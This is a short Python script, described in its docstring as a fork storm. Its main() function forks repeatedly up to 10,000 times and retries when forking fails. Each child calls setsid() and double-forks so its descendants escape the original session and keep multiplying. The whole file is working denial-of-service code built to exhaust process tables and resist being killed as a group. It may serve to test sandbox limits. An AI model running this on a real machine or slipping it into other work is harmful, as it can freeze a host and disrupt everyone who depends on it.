"""A fork storm: every process forks again, without end; some children call setsid() and double-fork to escape."""

import os
import time


def main():
    for _ in range(10_000):
        try:
            pid = os.fork()
        except OSError:
            time.sleep(0.01)
            continue
        if pid == 0:
            try:
                os.setsid()
                if os.fork() > 0:
                    os._exit(0)
            except OSError:
                pass
